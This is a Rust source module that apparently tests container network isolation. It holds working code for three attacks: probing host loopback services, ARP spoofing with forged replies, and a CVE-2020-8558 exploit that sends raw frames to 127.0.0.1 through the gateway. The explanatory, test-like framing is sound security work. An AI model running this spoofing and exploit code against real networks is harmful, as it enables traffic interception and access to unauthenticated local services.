//! The network: the host's loopback services, and the bridge a container shares
//! with its neighbours. A network namespace (chapter 6) gives a container its own
//! interfaces; what it may still do on the wire it shares is another matter.
//! `man 7 packet`, `man 7 arp`, `man 7 ip`.

use std::ffi::CString;
use std::net::Ipv4Addr;
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};

use super::errno;

/// Connect to 127.0.0.1:PORT and read what the service says. Services bound to
/// loopback are often unauthenticated on purpose: "only local programs can reach
/// me" (a database's admin port, a metrics endpoint, a Docker socket proxy).
pub fn reach_host_loopback(port: u16) -> String {
    use std::io::Read;
    let addr = std::net::SocketAddr::from(([127, 0, 0, 1], port));
    let timeout = std::time::Duration::from_secs(2);
    let stream = match std::net::TcpStream::connect_timeout(&addr, timeout) {
        Ok(stream) => stream,
        Err(e) => return format!("BLOCKED: connect to {addr}: {e}"),
    };
    let _ = stream.set_read_timeout(Some(timeout));
    let mut said = String::new();
    let _ = stream.take(256).read_to_string(&mut said);
    format!("ESCAPED: {addr} said {:?}", said.trim())
}

/// ARP spoofing: tell everyone on the local network that `ip` (a neighbour's
/// address) is at *our* MAC address, in ARP replies nobody asked for. Hosts
/// that believe it send that neighbour's traffic to us. Needs a raw packet
/// socket (`AF_PACKET`, `CAP_NET_RAW`) on an interface of that network: the
/// one the route to `ip` leaves by. Whether anyone believed it, only they know.
pub fn arp_spoof(ip: Ipv4Addr) -> String {
    if let Err(e) = super::ensure_proc() {
        return format!("BLOCKED: cannot mount /proc: {e}");
    }
    let Some((interface, _)) = route_to(ip) else {
        return format!("BLOCKED: no route to {ip} in /proc/net/route");
    };
    let link = match Link::open(&interface, ETH_P_ARP) {
        Ok(link) => link,
        Err(e) => return format!("BLOCKED: {e}"),
    };
    // On the host's own network (no network namespace), our interface may be
    // the one that has `ip`: then claim it for a MAC address of our making.
    let claimed =
        if link.address == Some(ip) { [0x02, 0xde, 0xad, 0xbe, 0xef, 0x01] } else { link.mac };
    let mut frame = Vec::with_capacity(42);
    frame.extend_from_slice(&[0xff; 6]); // to everyone
    frame.extend_from_slice(&link.mac);
    frame.extend_from_slice(&ETH_P_ARP.to_be_bytes());
    // Ethernet, IPv4, 6-byte MACs, 4-byte addresses, a reply ("is at").
    frame.extend_from_slice(&[0, 1, 8, 0, 6, 4, 0, 2]);
    frame.extend_from_slice(&claimed);
    frame.extend_from_slice(&ip.octets());
    frame.extend_from_slice(&[0xff; 6]);
    frame.extend_from_slice(&ip.octets());
    for _ in 0..3 {
        if let Err(e) = link.send(&frame, [0xff; 6]) {
            return format!("BLOCKED: send on {interface}: {e}");
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    format!("TRIED: told {interface}'s network that {ip} is at {}", mac_text(&claimed))
}

/// CVE-2020-8558: a host that allows packets to 127.0.0.1 from an interface
/// (`route_localnet`, which port publishing on 127.0.0.1 needs) lets a
/// neighbour on that interface reach services that listen only on the host's
/// loopback. Our own kernel would never send to 127.0.0.1 through the gateway,
/// so we write the frame ourselves: to the gateway's MAC, a UDP datagram for
/// 127.0.0.1:`port` carrying `marker`. Without a gateway we are on the host's
/// own network stack, and 127.0.0.1 is simply the host's.
pub fn route_localnet(port: u16, marker: &str) -> String {
    if let Err(e) = super::ensure_proc() {
        return format!("BLOCKED: cannot mount /proc: {e}");
    }
    let Some((interface, gateway)) = default_route() else {
        let socket = match std::net::UdpSocket::bind("127.0.0.1:0") {
            Ok(socket) => socket,
            Err(e) => return format!("BLOCKED: no UDP socket: {e}"),
        };
        return match socket.send_to(marker.as_bytes(), ("127.0.0.1", port)) {
            Ok(_) => format!(
                "TRIED: no gateway, so this is the host's network: sent to 127.0.0.1:{port}"
            ),
            Err(e) => format!("BLOCKED: send to 127.0.0.1:{port}: {e}"),
        };
    };
    let Some(gateway_mac) = neighbour_mac(gateway) else {
        return format!("BLOCKED: the gateway {gateway} did not answer ARP");
    };
    let link = match Link::open(&interface, ETH_P_IP) {
        Ok(link) => link,
        Err(e) => return format!("BLOCKED: {e}"),
    };
    let Some(source) = link.address else {
        return format!("BLOCKED: {interface} has no IPv4 address");
    };
    let frame = udp_frame(&link.mac, &gateway_mac, source, port, marker.as_bytes());
    match link.send(&frame, gateway_mac) {
        Ok(()) => format!("TRIED: sent 127.0.0.1:{port} a datagram through the gateway {gateway}"),
        Err(e) => format!("BLOCKED: send on {interface}: {e}"),
    }
}

const ETH_P_ARP: u16 = 0x0806;
const ETH_P_IP: u16 = 0x0800;

/// An Ethernet frame holding an IPv4 UDP datagram to 127.0.0.1:`port`.
fn udp_frame(from: &[u8; 6], to: &[u8; 6], source: Ipv4Addr, port: u16, data: &[u8]) -> Vec<u8> {
    let udp_len = 8 + data.len() as u16;
    let total = 20 + udp_len;
    let mut ip = vec![0x45, 0];
    ip.extend_from_slice(&total.to_be_bytes());
    ip.extend_from_slice(&[0, 0, 0, 0, 64, 17, 0, 0]); // id, flags, TTL, UDP, checksum
    ip.extend_from_slice(&source.octets());
    ip.extend_from_slice(&Ipv4Addr::LOCALHOST.octets());
    let sum = checksum(&ip);
    ip[10..12].copy_from_slice(&sum.to_be_bytes());
    let mut frame = Vec::new();
    frame.extend_from_slice(to);
    frame.extend_from_slice(from);
    frame.extend_from_slice(&ETH_P_IP.to_be_bytes());
    frame.extend_from_slice(&ip);
    frame.extend_from_slice(&40000u16.to_be_bytes());
    frame.extend_from_slice(&port.to_be_bytes());
    frame.extend_from_slice(&udp_len.to_be_bytes());
    frame.extend_from_slice(&[0, 0]); // no UDP checksum: allowed over IPv4
    frame.extend_from_slice(data);
    frame
}

/// The Internet checksum (RFC 1071) of an IPv4 header.
fn checksum(header: &[u8]) -> u16 {
    let mut sum: u32 = header.chunks(2).map(|w| u32::from(u16::from_be_bytes([w[0], w[1]]))).sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

/// A raw packet socket on one interface.
struct Link {
    socket: OwnedFd,
    index: i32,
    mac: [u8; 6],
    address: Option<Ipv4Addr>,
}

impl Link {
    fn open(interface: &str, protocol: u16) -> Result<Link, String> {
        // SAFETY: plain system call; the descriptor is owned below.
        let fd =
            unsafe { libc::socket(libc::AF_PACKET, libc::SOCK_RAW, i32::from(protocol.to_be())) };
        if fd < 0 {
            return Err(format!("raw packet socket: {}", errno()));
        }
        // SAFETY: `fd` was just returned to us and nothing else owns it.
        let socket = unsafe { OwnedFd::from_raw_fd(fd) };
        let name = CString::new(interface).map_err(|_| "a bad interface name".to_owned())?;
        // SAFETY: a NUL-terminated name.
        let index = unsafe { libc::if_nametoindex(name.as_ptr()) } as i32;
        if index == 0 {
            return Err(format!("no interface {interface}"));
        }
        let mac = ifreq(&socket, interface, libc::SIOCGIFHWADDR)
            .map(|r| {
                // SAFETY: SIOCGIFHWADDR filled in the hardware address.
                let data = unsafe { r.ifr_ifru.ifru_hwaddr.sa_data };
                std::array::from_fn(|i| data[i] as u8)
            })
            .ok_or_else(|| format!("{interface}'s MAC address: {}", errno()))?;
        let address = ifreq(&socket, interface, libc::SIOCGIFADDR).map(|r| {
            // SAFETY: SIOCGIFADDR filled in an IPv4 socket address.
            let data = unsafe { r.ifr_ifru.ifru_addr.sa_data };
            Ipv4Addr::new(data[2] as u8, data[3] as u8, data[4] as u8, data[5] as u8)
        });
        Ok(Link { socket, index, mac, address })
    }

    fn send(&self, frame: &[u8], to: [u8; 6]) -> Result<(), nix::errno::Errno> {
        // SAFETY: an all-zero sockaddr_ll is valid; we fill in what sendto needs.
        let mut at: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
        at.sll_family = libc::AF_PACKET as u16;
        at.sll_ifindex = self.index;
        at.sll_halen = 6;
        at.sll_addr[..6].copy_from_slice(&to);
        // SAFETY: the frame and the address are valid for the lengths given.
        let sent = unsafe {
            libc::sendto(
                self.socket.as_raw_fd(),
                frame.as_ptr().cast(),
                frame.len(),
                0,
                (&raw const at).cast(),
                size_of::<libc::sockaddr_ll>() as u32,
            )
        };
        if sent < 0 { Err(errno()) } else { Ok(()) }
    }
}

/// An interface ioctl (`man 7 netdevice`), or `None` if it failed.
fn ifreq(socket: &OwnedFd, interface: &str, request: libc::c_ulong) -> Option<libc::ifreq> {
    // SAFETY: an all-zero ifreq is valid; we copy the name in.
    let mut req: libc::ifreq = unsafe { std::mem::zeroed() };
    for (i, b) in interface.bytes().take(libc::IFNAMSIZ - 1).enumerate() {
        req.ifr_name[i] = b as libc::c_char;
    }
    // SAFETY: the request fills in the ifreq we pass.
    let ok = unsafe { libc::ioctl(socket.as_raw_fd(), request, &mut req) } == 0;
    ok.then_some(req)
}

/// The routes in `/proc/net/route`: (interface, destination, gateway, mask),
/// addresses in the kernel's byte order (little-endian hex on x86).
fn routes() -> Vec<(String, Ipv4Addr, Ipv4Addr, Ipv4Addr)> {
    let table = std::fs::read_to_string("/proc/net/route").unwrap_or_default();
    let address =
        |hex: &str| u32::from_str_radix(hex, 16).ok().map(|n| Ipv4Addr::from(n.swap_bytes()));
    table
        .lines()
        .skip(1)
        .filter_map(|line| {
            let f: Vec<&str> = line.split_whitespace().collect();
            Some((
                f.first()?.to_string(),
                address(f.get(1)?)?,
                address(f.get(2)?)?,
                address(f.get(7)?)?,
            ))
        })
        .collect()
}

/// The interface and gateway of the most specific route to `ip`.
fn route_to(ip: Ipv4Addr) -> Option<(String, Ipv4Addr)> {
    routes()
        .into_iter()
        .filter(|(_, dest, _, mask)| u32::from(ip) & u32::from(*mask) == u32::from(*dest))
        .max_by_key(|(_, _, _, mask)| u32::from(*mask).count_ones())
        .map(|(interface, _, gateway, _)| (interface, gateway))
}

fn default_route() -> Option<(String, Ipv4Addr)> {
    routes()
        .into_iter()
        .find(|(_, dest, gateway, _)| dest.is_unspecified() && !gateway.is_unspecified())
        .map(|(interface, _, gateway, _)| (interface, gateway))
}

/// `ip`'s MAC address, after making our kernel ask for it (a datagram to it
/// starts ARP), from the neighbour table in `/proc/net/arp`.
fn neighbour_mac(ip: Ipv4Addr) -> Option<[u8; 6]> {
    let socket = std::net::UdpSocket::bind("0.0.0.0:0").ok()?;
    for _ in 0..20 {
        let _ = socket.send_to(b"", (ip, 9));
        std::thread::sleep(std::time::Duration::from_millis(100));
        let table = std::fs::read_to_string("/proc/net/arp").unwrap_or_default();
        let found = table.lines().skip(1).find_map(|line| {
            let f: Vec<&str> = line.split_whitespace().collect();
            (f.first()? == &ip.to_string() && f.get(2)? != &"0x0").then(|| f.get(3).copied())?
        });
        if let Some(mac) = found {
            let bytes: Vec<u8> =
                mac.split(':').filter_map(|b| u8::from_str_radix(b, 16).ok()).collect();
            return bytes.try_into().ok();
        }
    }
    None
}

fn mac_text(mac: &[u8; 6]) -> String {
    mac.iter().map(|b| format!("{b:02x}")).collect::<Vec<_>>().join(":")
}
